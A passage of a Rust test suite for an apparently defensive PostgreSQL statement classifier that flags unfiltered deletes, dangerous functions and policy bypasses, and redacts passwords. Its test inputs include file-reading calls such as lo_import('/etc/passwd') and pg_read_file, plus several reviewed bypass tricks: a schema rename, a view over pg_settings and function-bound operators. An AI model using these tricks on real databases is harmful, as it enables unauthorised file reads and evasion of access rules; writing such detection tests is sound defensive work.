    check("UPDATE t SET a = 1 FROM u", Write, &[UpdateWithoutWhere]);
    check(
        "UPDATE t SET a = (SELECT 1 FROM u WHERE u.x = 1)",
        Write,
        &[UpdateWithoutWhere],
    );
    check(
        "UPDATE t SET a = 1 WHERE id IN (SELECT id FROM u)",
        Write,
        &[],
    );
    // A WHERE in a subquery is not the DELETE's WHERE.
    check(
        "DELETE FROM t RETURNING (SELECT 1 FROM u WHERE u.a = 1)",
        Write,
        &[DeleteWithoutWhere],
    );
    // PREPARE and rule actions count too.
    check(
        "PREPARE p AS UPDATE t SET a = $1",
        Write,
        &[UpdateWithoutWhere],
    );
    check(
        "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u",
        Ddl,
        &[DeleteWithoutWhere],
    );
}

#[test]
fn merge_actions_that_reach_every_row() {
    // An ON that names no column matches every target row to every source row.
    check(
        "MERGE INTO t USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE",
        Write,
        &[DeleteWithoutWhere],
    );
    check(
        "MERGE INTO t USING u ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1",
        Write,
        &[UpdateWithoutWhere],
    );
    // NOT MATCHED BY SOURCE takes every target row the job's source leaves out.
    check(
        "MERGE INTO t USING u ON t.id = u.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
        Write,
        &[DeleteWithoutWhere],
    );
    // Filtered by the ON or by the action's own condition: no flag.
    for sql in [
        "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE",
        "MERGE INTO t USING u ON true WHEN MATCHED AND t.a > 1 THEN UPDATE SET a = 0",
        "MERGE INTO t USING u ON t.id = u.id WHEN NOT MATCHED BY SOURCE AND t.a = 1 THEN DELETE",
        "MERGE INTO t USING u ON true WHEN NOT MATCHED THEN INSERT VALUES (1)",
        "MERGE INTO t USING u ON true WHEN MATCHED THEN DO NOTHING",
    ] {
        check(sql, Write, &[]);
    }
}

#[test]
fn table_references() {
    let s = one("INSERT INTO billing.invoices (id) SELECT id FROM staging.invoices");
    assert_eq!(
        s.tables,
        [
            table(Some("billing"), "invoices", Access::Write),
            table(Some("staging"), "invoices", Access::Read),
        ]
    );
    let s = one("UPDATE billing.invoices i SET paid = true FROM payments p WHERE p.id = i.id");
    assert_eq!(
        s.tables,
        [
            table(None, "payments", Access::Read),
            table(Some("billing"), "invoices", Access::Write)
        ]
    );
    let s = one(
        "SELECT * FROM a JOIN b.c ON true, LATERAL (SELECT * FROM d WHERE d.x IN (SELECT y FROM e)) s",
    );
    let names: Vec<&str> = s.tables.iter().map(|t| t.name.as_str()).collect();
    assert_eq!(names, ["a", "d", "e", "c"]);
    assert!(s.tables.iter().all(|t| t.access == Access::Read));
    // Quoted identifiers keep their case; a catalog qualifier is dropped.
    let s = one("SELECT * FROM mydb.\"Billing\".\"Invoices\"");
    assert_eq!(s.tables, [table(Some("Billing"), "Invoices", Access::Read)]);
    // DDL targets are written, queries inside them read…
    let s = one("CREATE TABLE billing.v AS SELECT * FROM public.t");
    assert_eq!(
        s.tables,
        [
            table(Some("billing"), "v", Access::Write),
            table(Some("public"), "t", Access::Read)
        ]
    );
    // …but a view's query is written too: a simple view is updatable, and
    // writes through it reach its table under the view's name (found in
    // review), as do a `_RETURN` rule's, which makes a table a view.
    for (sql, view) in [
        (
            "CREATE VIEW billing.v AS SELECT * FROM public.t",
            Some("billing"),
        ),
        (
            "CREATE OR REPLACE TEMP VIEW v AS SELECT * FROM public.t",
            None,
        ),
        (
            "CREATE RULE \"_RETURN\" AS ON SELECT TO v DO INSTEAD SELECT * FROM public.t",
            None,
        ),
    ] {
        let s = one(sql);
        assert_eq!(
            s.tables,
            [
                table(view, "v", Access::Write),
                table(Some("public"), "t", Access::Write)
            ],
            "{sql:?}"
        );
    }
    // A CTE in it is no table.
    let s = one("CREATE VIEW v AS WITH x AS (SELECT * FROM t) SELECT * FROM x");
    assert_eq!(
        s.tables,
        [
            table(None, "t", Access::Write),
            table(None, "v", Access::Write)
        ]
    );
    // A rule on another event reads its condition's tables as before.
    let s = one("CREATE RULE r AS ON INSERT TO v DO INSTEAD SELECT * FROM public.t");
    assert!(
        s.tables.contains(&table(Some("public"), "t", Access::Read)),
        "{s:?}"
    );
    let s = one("DROP TABLE a, billing.b");
    assert_eq!(
        s.tables,
        [
            table(None, "a", Access::Write),
            table(Some("billing"), "b", Access::Write)
        ]
    );
    let s = one("TRUNCATE billing.invoices");
    assert_eq!(
        s.tables,
        [table(Some("billing"), "invoices", Access::Write)]
    );
    let s = one("COMMENT ON COLUMN billing.invoices.total IS 'x'");
    assert_eq!(
        s.tables,
        [table(Some("billing"), "invoices", Access::Write)]
    );
    // A security label decides who may read the table (sepgsql), like GRANT.
    for sql in [
        "SECURITY LABEL ON TABLE billing.invoices IS 'system_u:object_r:sepgsql_table_t:s0'",
        "SECURITY LABEL FOR selinux ON COLUMN billing.invoices.total IS 'x'",
    ] {
        let s = check(sql, Dcl, &[]);
        assert_eq!(
            s.tables,
            [table(Some("billing"), "invoices", Access::Write)],
            "{sql:?}"
        );
    }
    // Renaming or moving into a protected place writes there.
    let s = one("ALTER TABLE public.t SET SCHEMA billing");
    assert!(
        s.tables
            .contains(&table(Some("billing"), "t", Access::Write))
    );
    let s = one("ALTER TABLE billing.t RENAME TO u");
    assert!(
        s.tables
            .contains(&table(Some("billing"), "u", Access::Write))
    );
    let s = one("DROP POLICY p ON billing.invoices");
    assert_eq!(
        (s.class, s.tables.as_slice()),
        (
            Dcl,
            [table(Some("billing"), "invoices", Access::Write)].as_slice()
        )
    );
    let s = one("WITH x AS (SELECT 1) SELECT * FROM billing.invoices i, x FOR UPDATE OF i");
    assert_eq!(s.tables, [table(Some("billing"), "invoices", Access::Read)]);
    let s = one("GRANT SELECT ON billing.invoices TO ci");
    assert_eq!(
        s.tables,
        [table(Some("billing"), "invoices", Access::Write)]
    );
    // A table both read and written appears once per access, once each.
    let s = one("INSERT INTO t SELECT * FROM t UNION ALL SELECT * FROM t");
    assert_eq!(
        s.tables,
        [
            table(None, "t", Access::Read),
            table(None, "t", Access::Write)
        ]
    );
}

#[test]
fn cte_names_are_scoped_and_never_hide_real_tables() {
    // A CTE named like a table hides only the unqualified name, in its scope.
    let s = one("WITH invoices AS (SELECT 1) SELECT * FROM billing.invoices, invoices");
    assert_eq!(s.tables, [table(Some("billing"), "invoices", Access::Read)]);
    // A plain WITH sees only earlier CTEs: `b` in the first one is the real table.
    let s = one("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b");
    assert_eq!(s.tables, [table(None, "b", Access::Read)]);
    assert!(
        one("WITH RECURSIVE a AS (SELECT 1 UNION SELECT * FROM a) SELECT * FROM a")
            .tables
            .is_empty()
    );
    // Out of scope, the name is the table again.
    let s = one("SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) x, t");
    assert_eq!(s.tables, [table(None, "t", Access::Read)]);
    // The target of a data change is always a table.
    let s = check(
        "WITH invoices AS (SELECT 1) DELETE FROM invoices",
        Write,
        &[DeleteWithoutWhere],
    );
    assert_eq!(s.tables, [table(None, "invoices", Access::Write)]);
}

#[test]
fn unparsable_text_is_an_error_with_a_position() {
    let e = classify("DELET FROM t").expect_err("not SQL");
    assert_eq!(
        e.to_string(),
        "unparsable SQL: syntax error at or near \"DELET\" (position 1)"
    );
    assert_eq!(
        classify("SELECT 1; SELEC 2"),
        Err(ClassifyError::Unparsable {
            message: "syntax error at or near \"SELEC\"".to_owned(),
            cursor: Some(11),
        })
    );
    // The error is where the parser stopped, not the first look-alike.
    match classify("select a from t where a = 'x' and and") {
        Err(ClassifyError::Unparsable { cursor, .. }) => assert_eq!(cursor, Some(35)),
        other => panic!("{other:?}"),
    }
    match classify("SELECT 'é' FROM") {
        Err(ClassifyError::Unparsable { message, cursor }) => {
            assert_eq!(
                (message.as_str(), cursor),
                ("syntax error at end of input", Some(16))
            );
        }
        other => panic!("{other:?}"),
    }
    assert!(matches!(
        classify("SELECT 'abc"),
        Err(ClassifyError::Unparsable {
            cursor: Some(8),
            ..
        })
    ));
    assert!(matches!(
        classify("SELECT 1; DROP TABLE"),
        Err(ClassifyError::Unparsable { .. })
    ));
    assert!(matches!(
        classify("SELECT '\0'"),
        Err(ClassifyError::Unparsable { .. })
    ));
}

#[test]
fn settings_that_change_how_sql_is_read_are_refused() {
    assert!(refused("SET standard_conforming_strings = off"));
    assert!(refused("SET standard_conforming_strings TO 0"));
    assert!(refused("SELECT 1; SET standard_conforming_strings = off"));
    assert!(refused(
        "SELECT set_config('standard_conforming_strings', 'off', false)"
    ));
    assert!(refused(
        "ALTER ROLE ci SET standard_conforming_strings = off"
    ));
    assert!(refused("SET client_encoding = 'SJIS'"));
    assert!(refused("SET NAMES 'big5'"));
    assert!(refused("SET client_encoding TO \"WIN932\""));
    assert!(refused(
        "SELECT set_config('client_encoding', 'GBK', false)"
    ));
    assert!(refused("SELECT set_config($1, 'x', false)"));
    check("SET standard_conforming_strings = on", Other, &[]);
    check("SET client_encoding = 'UTF8'", Other, &[]);
    check("SET NAMES 'LATIN1'", Other, &[]);
    check("SET client_encoding TO DEFAULT", Other, &[]);
    check("RESET client_encoding", Other, &[]);
    let e = classify("SET standard_conforming_strings = off").expect_err("refused");
    assert!(e.to_string().starts_with("refused SQL: "), "{e}");
}

#[test]
fn names_round_trip_for_policy_files() {
    for class in StatementClass::ALL {
        assert_eq!(class.to_string().parse::<StatementClass>(), Ok(class));
        assert_eq!(class.to_string(), class.to_string().to_lowercase());
    }
    for flag in Flag::ALL {
        assert_eq!(flag.to_string().parse::<Flag>(), Ok(flag));
    }
    assert_eq!("DDL".parse::<StatementClass>(), Ok(Ddl));
    assert_eq!(DeleteWithoutWhere.to_string(), "delete_without_where");
    assert_eq!(ExplainAnalyzeWrite.to_string(), "explain_analyze_write");
    let e = "delete".parse::<StatementClass>().expect_err("not a class");
    assert!(
        e.to_string()
            .contains("read, write, ddl, dcl, admin, transaction, other"),
        "{e}"
    );
    assert!("drop_table".parse::<Flag>().is_err());
}

#[test]
fn flags_are_sorted_and_unique() {
    let s = one(
        "WITH a AS (DELETE FROM t RETURNING *), b AS (DELETE FROM u RETURNING *) \
         SELECT pg_read_file('x'), pg_ls_dir('.') FROM a, b",
    );
    assert_eq!(
        s.flags,
        [DeleteWithoutWhere, DataModifyingCte, DangerousFunction]
    );
}

/// The summary fast path and the full parse agree on every statement both can classify.
#[test]
fn fast_path_agrees_with_full_parse() {
    let selects = [
        "SELECT 1",
        "select * from t",
        "SELECT count(*), max(x) FROM t GROUP BY y HAVING count(*) > 1",
        "SELECT * FROM t FOR UPDATE SKIP LOCKED",
        "VALUES (1, 'a'), (2, 'b')",
        "TABLE t",
        "SELECT * FROM t TABLESAMPLE SYSTEM (10)",
        // pgbench's own.
        "UPDATE pgbench_accounts SET abalance = abalance + -2310 WHERE aid = 84237",
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 1, 3, -4, CURRENT_TIMESTAMP)",
        "update t set a = 1",
        "DELETE FROM t WHERE id = $1",
        "UPDATE t SET a = 1 RETURNING a AS where",
        "UPDATE t SET a = count(*) FILTER (WHERE true) -- WHERE",
        "UPDATE t SET a = 'WHERE' /* WHERE */",
        "UPDATE t SET a = 1\x0bWHERE\x0bb",
        "INSERT INTO t SELECT * FROM t",
        "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING RETURNING *",
        "INSERT INTO t DEFAULT VALUES",
        "INSERT INTO t VALUES ((SELECT max(x) FROM u), lower('A'))",
        // Function calls as both paths name them (policy matches them).
        "SELECT count(DISTINCT a) OVER (), coalesce(a, b), greatest(a, 1), a::text, CAST(b AS int) FROM t",
    ];
    for sql in selects {
        let summary = pg_query::summary(sql, -1).expect("parses");
        let fast = fast::plain_statement(sql, &summary)
            .unwrap_or_else(|| panic!("{sql:?} should take the fast path"));
        let full = classify_parsed(sql).expect("parses");
        assert_eq!(full.statements, [fast], "{sql:?}");
    }
    // A dot that qualifies neither a listed table nor a listed function
    // may be a call in attribute notation (`u.c` is `c(u)` when `u` has
    // no column `c`), which only the walk sees.
    for sql in [
        "SELECT a, b FROM s.t WHERE a = $1 AND b IN (SELECT b FROM u WHERE u.c > 3) ORDER BY a LIMIT 10",
        "SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN c.d USING (id)",
        "SELECT * FROM \"Mixed\".\"Case\";",
        "SELECT (SELECT max(id) FROM u) AS m, EXISTS (SELECT 1 FROM v WHERE v.id = t.id) FROM t",
        "SELECT * FROM generate_series(1, 10) g, LATERAL (SELECT * FROM t WHERE t.id = g) x",
        "DELETE FROM ONLY t AS x USING u, s.v WHERE x.id = u.id RETURNING x.*",
        "UPDATE t SET a = (SELECT b FROM u WHERE u.id = t.id)",
        "UPDATE t x SET (a, b) = (1, 2) FROM u JOIN v ON u.id = v.id WHERE x.id = u.id RETURNING a AS where",
        "INSERT INTO s.t (a) SELECT b FROM u WHERE c > 1 ON CONFLICT (a) DO UPDATE SET a = excluded.a WHERE t.a < 3",
        "SELECT substring(a FROM 2), extract(year FROM now()), trim(b), pg_catalog.lower(c), s.f(1), \"S\".\"F\"() FROM t",
        "SELECT * FROM db.s.f(1), unnest(ARRAY[1]) WITH ORDINALITY",
        "SELECT * FROM t WHERE t.id = 1.5 AND x = .5",
        "SELECT $1.purge",
        "SELECT * FROM t1 UNION SELECT * FROM t2 EXCEPT SELECT * FROM s.t3",
        "UPDATE t SET a = (SELECT max(a) FROM t) WHERE b IN (SELECT b FROM s.u)",
        "SELECT * FROM billing.invoices i FOR UPDATE OF i NOWAIT",
        "DELETE FROM billing.invoices",
        "SELECT (t).purge FROM t",
    ] {
        let summary = pg_query::summary(sql, -1).expect("parses");
        assert!(
            fast::plain_statement(sql, &summary).is_none(),
            "{sql:?} needs the full parse"
        );
    }
    // Found in review: an alias named like a schema made `x.purge` look
    // like the table `x.purge` listed in FROM.
    for sql in [
        "SELECT x.purge FROM billing.invoices x, x.purge",
        "SELECT x.purge, x.purge() FROM billing.invoices x",
        "SELECT * FROM billing.invoices",
    ] {
        let summary = pg_query::summary(sql, -1).expect("parses");
        assert!(
            fast::plain_statement(sql, &summary).is_none(),
            "{sql:?} needs the full parse"
        );
    }
    let s = one("SELECT x.purge FROM billing.invoices x, x.purge");
    assert!(
        s.functions.iter().any(|f| f.attribute && f.name == "purge"),
        "{s:?}"
    );
    // Numbers, and dots inside literals and quoted names, keep the fast path.
    for sql in [
        "SELECT lower(c), 1.5, .5, 'a.b' FROM invoices /* x.y */",
        "DELETE FROM invoices WHERE id = 1 AND note = 'x.y'",
    ] {
        let summary = pg_query::summary(sql, -1).expect("parses");
        let fast = fast::plain_statement(sql, &summary)
            .unwrap_or_else(|| panic!("{sql:?} should take the fast path"));
        let full = classify_parsed(sql).expect("parses");
        assert_eq!(full.statements, [fast], "{sql:?}");
    }
    // These need the full parse.
    for sql in [
        "SELECT 1; SELECT 2",
        "WITH x AS (SELECT 1) SELECT * FROM x",
        "SELECT * INTO t2 FROM t",
        "SELECT pg_read_file('x')",
        "SELECT set_config('a.b', 'c', false)",
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "EXPLAIN SELECT 1",
        "",
        "WITH x AS (SELECT 1) UPDATE t SET a = 1",
        "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x",
        "EXPLAIN ANALYZE DELETE FROM t",
        "UPDATE t SET a = pg_read_file('x') WHERE true",
        "UPDATE t SET a = pg_catalog.PG_READ_FILE('x') WHERE true",
        "INSERT INTO t VALUES (\"pg_catalog\".\"lo_import\"('/etc/passwd'))",
        "DELETE FROM t WHERE a = set_config('role', 'x', false)",
        "UPDATE t SET a = u.where FROM u",
        "UPDATE t SET a = u.\x0bwhere FROM u",
        "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE",
        "DELETE FROM t WHERE CURRENT OF c",
        "DELETE FROM t WHERE true",
        "UPDATE t SET a = 1 WHERE a = 1 OR 1 = 1",
        "DELETE FROM t WHERE SET  $q$ WHE'E $q$",
        "COPY t FROM STDIN",
        "PREPARE p AS DELETE FROM t",
        "CREATE TABLE t AS SELECT 1",
        "DELETE FROM t; DELETE FROM u",
    ] {
        let summary = pg_query::summary(sql, -1).expect("parses");
        assert!(fast::plain_statement(sql, &summary).is_none(), "{sql:?}");
    }
}

#[test]
fn depth_estimate_follows_nesting_not_length() {
    // A long flat statement is as shallow as a short one.
    let insert = |rows: usize| {
        let rows = vec!["(1, 'a', now(), $1)"; rows].join(", ");
        depth::estimate(&format!("INSERT INTO t (a, b, c, d) VALUES {rows}"))
    };
    assert_eq!(insert(2000), insert(1));
    let select = |columns: usize| {
        let columns = vec!["\"users\".\"name\""; columns].join(", ");
        depth::estimate(&format!("SELECT {columns} FROM users WHERE id = $1"))
    };
    assert!(select(300) <= select(1));
    assert!(select(1) <= 32, "{}", select(1));
    // Nesting grows it, whether through parentheses, operators or set operations.
    let nested = |n: usize| {
        depth::estimate(&format!(
            "SELECT {}1{}",
            "(SELECT ".repeat(n),
            ")".repeat(n)
        ))
    };
    assert!(nested(20) > nested(10) && nested(10) > nested(1));
    let chain = depth::estimate(&format!("SELECT {}", vec!["1"; 500].join(" + ")));
    assert!(chain >= 1000, "{chain}");
    let unions = depth::estimate(&vec!["SELECT 1, 2"; 300].join(" UNION "));
    assert!(unions >= 300, "{unions}");
    // Literals and comments hide nothing from it, and fake nothing either.
    let hidden = "SELECT E'a\\'' , (SELECT (SELECT 1))";
    assert!(depth::estimate(hidden) > depth::estimate("SELECT 'a', 1"));
    let continued = "SELECT E'a'\n'\\' , (SELECT (SELECT (SELECT 1)))'";
    assert_eq!(depth::estimate(continued), depth::estimate("SELECT 'x'"));
    assert_eq!(
        depth::estimate("SELECT $$ ((((( $$, '((((', \"((((\" -- ((((\n"),
        depth::estimate("SELECT 1, 2, 3")
    );
}

/// The full parse decodes pg_query's protobuf tree; prost refuses more than
/// 100 nested messages unless its `no-recursion-limit` feature is on, which
/// would deny ordinary queries (a 50-term `||` chain, a dozen nested subqueries).
#[test]
fn moderately_deep_statements_decode() {
    let concat = format!(
        "UPDATE t SET label = {} WHERE id = 1",
        vec!["'x'"; 80].join(" || ")
    );
    let nested = format!(
        "EXPLAIN SELECT {}1{}",
        "(SELECT ".repeat(40),
        ")".repeat(40)
    );
    for sql in [concat, nested] {
        match classify(&sql) {
            Ok(c) => assert_eq!(c.statements.len(), 1),
            Err(e) => panic!(
                "{e}: build with prost's `no-recursion-limit` feature (see classify/depth.rs)"
            ),
        }
    }
}

#[test]
fn deep_nesting_is_parsed_off_stack_or_refused() {
    // Deep enough to abort a 2 MiB stack if parsed inline.
    let deep = format!("SELECT {}1{}", "(SELECT ".repeat(1000), ")".repeat(1000));
    check(&deep, Read, &[]);
    let deep_full_parse = format!(
        "EXPLAIN SELECT {}1{}",
        "(SELECT ".repeat(300),
        ")".repeat(300)
    );
    let long_chain = format!("DELETE FROM t WHERE a = {}", vec!["1"; 3000].join(" + "));
    for sql in [deep_full_parse, long_chain] {
        // Without prost's `no-recursion-limit` these are refused as too deep to
        // decode (see `moderately_deep_statements_decode`); either way, no crash.
        match classify(&sql) {
            Ok(c) => assert_eq!(c.statements.len(), 1),
            Err(e) => assert!(e.to_string().contains("too deeply"), "{e}"),
        }
    }
    let absurd = format!("SELECT {}", vec!["1"; 1_100_000].join("+"));
    assert!(matches!(
        classify(&absurd),
        Err(ClassifyError::TooDeep { .. })
    ));
}

#[test]
fn cache_shares_results_and_stays_bounded() {
    let cache = ClassifierCache::new(8);
    let a = cache.classify("SELECT * FROM t").expect("parses");
    let b = cache.classify("SELECT * FROM t").expect("parses");
    assert!(Arc::ptr_eq(&a, &b));
    // Short text, many tables: classified each time, never cached.
    let heavy: Vec<String> = (0..300).map(|i| format!("t{i}")).collect();
    let heavy = format!("SELECT 1 FROM {}", heavy.join(", "));
    assert!(heavy.len() < MAX_CACHED_LEN);
    let before = cache.len();
    let h1 = cache.classify(&heavy).expect("parses");
    let h2 = cache.classify(&heavy).expect("parses");
    assert!(!Arc::ptr_eq(&h1, &h2));
    assert_eq!(h1.statements[0].tables.len(), 300);
    assert_eq!(cache.len(), before);
    assert_eq!(a.statements[0].class, Read);
    // Errors are cached too, and stay errors.
    assert!(cache.classify("DELET FROM t").is_err());
    assert!(cache.classify("DELET FROM t").is_err());
    for i in 0..100 {
        cache
            .classify(&format!("SELECT '{i}' FROM t"))
            .expect("parses");
        assert!(cache.len() <= 8, "{}", cache.len());
    }
    // A hot entry survives the churn (CLOCK gives it second chances).
    let hot = cache.classify("SELECT 'hot'").expect("parses");
    for i in 0..100 {
        assert!(Arc::ptr_eq(
            &hot,
            &cache.classify("SELECT 'hot'").expect("parses")
        ));
        cache
            .classify(&format!("SELECT '{i}' || 'x'"))
            .expect("parses");
    }
    // Statements that differ only in integer literals share one entry.
    let shaped = ClassifierCache::new(8);
    let u1 = shaped
        .classify("UPDATE t SET a = 1 WHERE id = 2")
        .expect("parses");
    let u2 = shaped
        .classify("UPDATE t SET a = 3 WHERE id = 4")
        .expect("parses");
    assert!(Arc::ptr_eq(&u1, &u2));
    assert_eq!(shaped.len(), 1);
    // …but never across a flag: this one has no WHERE.
    let all = shaped.classify("UPDATE t SET a = 3").expect("parses");
    assert_eq!(all.flags().collect::<Vec<_>>(), [Flag::UpdateWithoutWhere]);
    let disabled = ClassifierCache::new(0);
    disabled.classify("SELECT 1").expect("parses");
    assert!(disabled.is_empty());
    fn shared<T: Send + Sync>(_: &T) {}
    shared(&cache);
}

#[test]
fn passwords_are_redacted() {
    assert_eq!(
        redact_passwords("CREATE ROLE x PASSWORD 'secret'"),
        "CREATE ROLE x PASSWORD '***'"
    );
    assert_eq!(
        redact_passwords("ALTER USER y WITH ENCRYPTED PASSWORD 'z'"),
        "ALTER USER y WITH ENCRYPTED PASSWORD '***'"
    );
    assert_eq!(
        redact_passwords(
            "create user a login password /* c */ E'it''s\\'s' valid until 'infinity'"
        ),
        "create user a login password /* c */ '***' valid until 'infinity'"
    );
    assert_eq!(
        redact_passwords("ALTER ROLE r PASSWORD $pw$s3cr3t$pw$"),
        "ALTER ROLE r PASSWORD '***'"
    );
    assert_eq!(
        redact_passwords("ALTER ROLE r PASSWORD NULL"),
        "ALTER ROLE r PASSWORD NULL"
    );
    assert_eq!(
        redact_passwords("CREATE USER MAPPING FOR ci SERVER s OPTIONS (user 'u', password 'p')"),
        "CREATE USER MAPPING FOR ci SERVER s OPTIONS (user 'u', password '***')"
    );
    assert_eq!(
        redact_passwords("CREATE SUBSCRIPTION s CONNECTION 'host=h dbname=d' PUBLICATION p"),
        "CREATE SUBSCRIPTION s CONNECTION '***' PUBLICATION p"
    );
    assert_eq!(
        redact_passwords(
            "SELECT dblink_connect('c', 'host=h password = hunter2'), 'postgres://u:pw@h/db'"
        ),
        "SELECT dblink_connect('c', '***'), '***'"
    );
    // Nothing to hide: the same text, not a copy.
    let plain = "SELECT password FROM users WHERE name = 'x'";
    assert!(matches!(redact_passwords(plain), std::borrow::Cow::Borrowed(p) if p == plain));
    // Unscannable text still loses the secret, to the end if the literal never closes.
    assert_eq!(
        redact_passwords("ALTER ROLE x PASSWORD 'unterminated"),
        "ALTER ROLE x PASSWORD '***'"
    );
    assert_eq!(
        redact_passwords("CREATE ROLE x PaSsWoRd 'a''b' LOGIN 'oops"),
        "CREATE ROLE x PaSsWoRd '***' LOGIN 'oops"
    );
    assert_eq!(
        redact_passwords("CREATE ROLE x PASSWORD E'a\\'b' 'oops"),
        "CREATE ROLE x PASSWORD '***' 'oops"
    ); // The pre-check that skips the scanner: case and comments do not hide a
    // keyword from it, and texts with none of its words pass untouched.
    assert_eq!(
        redact_passwords("ALTER/**/ROLE x cOnNeCtIoN LIMIT 1 PASSWORD/*c*/'s'"),
        "ALTER/**/ROLE x cOnNeCtIoN LIMIT 1 PASSWORD/*c*/'***'"
    );
    assert_eq!(
        redact_passwords("SELECT dblink_connect('POSTGRESQL://u:s@h/db')"),
        "SELECT dblink_connect('***')"
    );
    let plain = "SELECT abalance FROM pgbench_accounts WHERE aid = 42";
    assert!(matches!(redact_passwords(plain), std::borrow::Cow::Borrowed(p) if p == plain));
}

/// Found in review: an operator, aggregate, cast or type bound to a
/// function calls it later from statements that never name it (`SELECT ##
/// '/etc/passwd'` after `CREATE OPERATOR ## (…, FUNCTION = pg_read_file)`),
/// so the binding is checked as the call would be, and a function that
/// writes is flagged there: its later calls will not show it.
#[test]
fn functions_bound_for_later_calls_are_checked_where_they_are_bound() {
    for sql in [
        "CREATE OPERATOR public.## (RIGHTARG = text, FUNCTION = pg_read_file)",
        "CREATE OPERATOR ## (RIGHTARG = text, PROCEDURE = pg_catalog.PG_READ_FILE)",
        "CREATE AGGREGATE rd(text) (SFUNC = textcat, STYPE = text, FINALFUNC = 'pg_read_file')",
        "CREATE AGGREGATE rd(text) (SFUNC = textcat, STYPE = text, MFINALFUNC = pg_read_file)",
        "CREATE OPERATOR !!! (FUNCTION = pg_terminate_backend, RIGHTARG = int4)",
        "CREATE OPERATOR ~~~ (LEFTARG = oid, FUNCTION = lo_unlink)",
        "ALTER OPERATOR ## (NONE, text) SET (RESTRICT = pg_read_file)",
        "CREATE TYPE r AS RANGE (SUBTYPE = int4, SUBTYPE_DIFF = lo_unlink)",
        "CREATE CAST (text AS int) WITH FUNCTION pg_read_file(text)",
        "CREATE OPERATOR CLASS c FOR TYPE int USING btree AS OPERATOR 1 <, FUNCTION 1 lo_unlink(int)",
        "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION dblink_exec()",
    ] {
        let s = one(sql);
        assert_eq!(s.class, Ddl, "{sql:?}: {s:?}");
        assert!(s.flags.contains(&DangerousFunction), "{sql:?}: {s:?}");
    }
    // Found by name for `deny_functions`, schema as written; options that
    // name types are not functions.
    let s = check(
        "CREATE AGGREGATE billing.total(numeric) (SFUNC = billing.add, STYPE = numeric)",
        Ddl,
        &[],
    );
    assert_eq!(
        s.functions,
        [FunctionRef {
            schema: Some("billing".into()),
            name: "add".into(),
            attribute: false,
        }]
    );
    let s = check(
        "CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION purge()",
        Ddl,
        &[],
    );
    assert_eq!(s.functions.len(), 1, "{s:?}");
    assert_eq!(s.functions[0].name, "purge");
    // A bound set_config would set whatever its later caller passes.
    assert!(refused(
        "CREATE AGGREGATE setter(text, bool) (SFUNC = set_config, STYPE = text, INITCOND = 'role')"
    ));
    assert!(refused(
        "CREATE OPERATOR @@ (LEFTARG = text, RIGHTARG = text, FUNCTION = pg_catalog.set_config)"
    ));
}

/// Found in review: `pg_settings`' UPDATE rule calls set_config, so an
/// updatable view over it lets `UPDATE v SET setting = 'billing' WHERE
/// name = 'search_' || 'path'` move the search path unseen. A schema
/// object over pg_settings is refused; reading it is not.
#[test]
fn schema_objects_over_pg_settings_are_refused() {
    for sql in [
        "CREATE VIEW public.v AS SELECT * FROM pg_settings",
        "CREATE OR REPLACE VIEW v AS SELECT name, setting FROM pg_catalog.pg_settings",
        "CREATE RULE r AS ON INSERT TO t DO ALSO UPDATE pg_settings SET setting = NEW.x WHERE name = NEW.y",
        "CREATE TABLE t AS SELECT * FROM pg_settings",
    ] {
        assert!(refused(sql), "{sql:?}: {:?}", classify(sql));
    }
    check("SELECT name, setting FROM pg_settings", Read, &[]);
    check("CREATE VIEW v AS SELECT * FROM app.settings", Ddl, &[]);
}

/// Found in review: `ALTER SCHEMA billing RENAME TO b2`, then `DELETE FROM
/// b2.invoices`, got past a rule on `billing.*`. Statements that reach a
/// schema's tables without naming them name every table there; a
/// `CASCADE` (or what a role owns) may reach tables anywhere.
#[test]
fn statements_on_whole_schemas_name_every_table_there() {
    let every = |schema: &str| table(Some(schema), TableRef::EVERY, Access::Write);
    let anywhere = every(TableRef::EVERY);
    for (sql, class, tables) in [
        (
            "ALTER SCHEMA billing RENAME TO b2",
            Ddl,
            vec![every("b2"), every("billing")],
        ),
        ("DROP SCHEMA billing", Ddl, vec![every("billing")]),
        (
            "DROP SCHEMA IF EXISTS scratch, billing CASCADE",
            Ddl,
            vec![every("billing"), every("scratch")],
        ),
        (
            "GRANT ALL ON ALL TABLES IN SCHEMA billing TO ci",
            Dcl,
            vec![every("billing")],
        ),
        (
            "REVOKE USAGE ON SCHEMA billing FROM app",
            Dcl,
            vec![every("billing")],
        ),
        (
            "ALTER DEFAULT PRIVILEGES IN SCHEMA billing GRANT SELECT ON TABLES TO ci",
            Dcl,
            vec![every("billing")],
        ),
        (
            "ALTER SCHEMA billing OWNER TO ci",
            Dcl,
            vec![every("billing")],
        ),
        (
            "TRUNCATE public.customers CASCADE",
            Write,
            vec![
                anywhere.clone(),
                table(Some("public"), "customers", Access::Write),
            ],
        ),
        ("DROP TYPE mood CASCADE", Ddl, vec![anywhere.clone()]),
        (
            "ALTER TABLE t DROP COLUMN c CASCADE",
            Ddl,
            vec![table(None, "t", Access::Write)],
        ),
        // Reviewed: Rails' schema load and Prisma's reset drop dependents
        // (views, constraints), no other table's rows.
        (
            "DROP TABLE IF EXISTS \"users\" CASCADE",
            Ddl,
            vec![table(None, "users", Access::Write)],
        ),
        ("DROP SCHEMA public CASCADE", Ddl, vec![every("public")]),
        (
            "DROP DOMAIN money_amount CASCADE",
            Ddl,
            vec![anywhere.clone()],
        ),
        ("DROP FUNCTION f(int) CASCADE", Ddl, vec![anywhere.clone()]),
        ("DROP OWNED BY ci", Dcl, vec![anywhere.clone()]),
        ("REASSIGN OWNED BY ci TO app", Dcl, vec![anywhere.clone()]),
    ] {
        let s = one(sql);
